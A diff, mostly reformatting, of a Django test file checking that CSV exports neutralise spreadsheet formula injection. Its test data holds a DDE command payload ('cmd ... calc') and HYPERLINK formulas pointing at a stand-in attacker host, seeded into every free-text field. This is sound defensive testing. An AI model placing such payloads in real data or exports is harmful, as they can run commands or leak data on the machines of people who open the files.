@@ -23,16 +23,28 @@ from tests.sweeps import EXPORT_QUERIES, body, fetch_all, web_urls
 ROOT = Path(settings.BASE_DIR)
 
 
-@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=",
-                                  "-cmd|' /C calc'!A0"])
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-cmd|' /C calc'!A0"]
+)
 def test_text_starting_with_a_formula_character_is_neutralised(text):
     assert csv_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    (Decimal("-650.00"), Decimal("-650.00")), (-3, -3), (4.5, 4.5), ("-650.00", "-650.00"), ("12", "12"),
-    (None, ""), (True, "yes"), (date(2026, 1, 2), "2026-01-02"), ("Smith, Jo", "Smith, Jo"), ("a=1", "a=1"),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (Decimal("-650.00"), Decimal("-650.00")),
+        (-3, -3),
+        (4.5, 4.5),
+        ("-650.00", "-650.00"),
+        ("12", "12"),
+        (None, ""),
+        (True, "yes"),
+        (date(2026, 1, 2), "2026-01-02"),
+        ("Smith, Jo", "Smith, Jo"),
+        ("a=1", "a=1"),
+    ],
+)
 def test_numbers_and_plain_text_are_unchanged(value, expected):
     assert csv_cell(value) == expected
     assert type(csv_cell(value)) is type(expected)
@@ -70,10 +82,15 @@ _PREFIXES = itertools.cycle(FORMULA_STARTS)
 
 
 def _free_text_fields(model) -> list[models.Field]:
-    return [f for f in model._meta.concrete_fields
-            if isinstance(f, models.CharField | models.TextField) and not f.choices and not f.primary_key
-            and f.name not in ("password", "number", "jurisdiction", "criterion", "key")  # codes the system keys on
-            and type(f).__module__.startswith("django.")]
+    return [
+        f
+        for f in model._meta.concrete_fields
+        if isinstance(f, models.CharField | models.TextField)
+        and not f.choices
+        and not f.primary_key
+        and f.name not in ("password", "number", "jurisdiction", "criterion", "key")  # codes the system keys on
+        and type(f).__module__.startswith("django.")
+    ]
 
 
 def _poison_every_free_text_field() -> int:
@@ -86,8 +103,10 @@ def _poison_every_free_text_field() -> int:
             if not fields or model._meta.label.endswith("AccessLog"):
                 continue
             for pk in model._base_manager.values_list("pk", flat=True):
-                values = {f.attname: f"{next(_PREFIXES)}HYPERLINK(\"http://evil.example/{pk}\")"[: f.max_length or 200]
-                          for f in fields}
+                values = {
+                    f.attname: f'{next(_PREFIXES)}HYPERLINK("http://evil.example/{pk}")'[: f.max_length or 200]
+                    for f in fields
+                }
                 try:
                     with transaction.atomic():
                         written += model._base_manager.filter(pk=pk).update(**values) * len(values)
@@ -104,8 +123,9 @@ def test_every_csv_export_neutralises_every_free_text_field(role_user, make_user
     users = {str(role): role_user(role) for role in Role}
     urls = web_urls(users=users)
     sample = ReviewSample.objects.select_related("review").first()
-    quality_services.sample_score(sample=sample, answers={"q": False}, result="fail", notes="late",
-                                  by=make_user("quality_analyst"))
+    quality_services.sample_score(
+        sample=sample, answers={"q": False}, result="fail", notes="late", by=make_user("quality_analyst")
+    )
     assert _poison_every_free_text_field() > 0
     client = Client(raise_request_exception=False)
     client.force_login(users["administrator"])
@@ -122,8 +142,12 @@ def test_every_csv_export_neutralises_every_free_text_field(role_user, make_user
                 if "HYPERLINK" in cell:
                     poisoned.add(name)
     # The sweep found the exports (it cannot pass by finding none) ...
-    assert {"quality:drilldown", "quality:review_export", "complaints:report_csv",
-            "outreach:dashboard_export"} <= exports.keys()
+    assert {
+        "quality:drilldown",
+        "quality:review_export",
+        "complaints:report_csv",
+        "outreach:dashboard_export",
+    } <= exports.keys()
     # ... the formulas reached them (case numbers, counties, usernames, review notes) ...
     assert {"quality:drilldown", "quality:review_export"} <= poisoned
     # ... and not one cell came out as a formula.
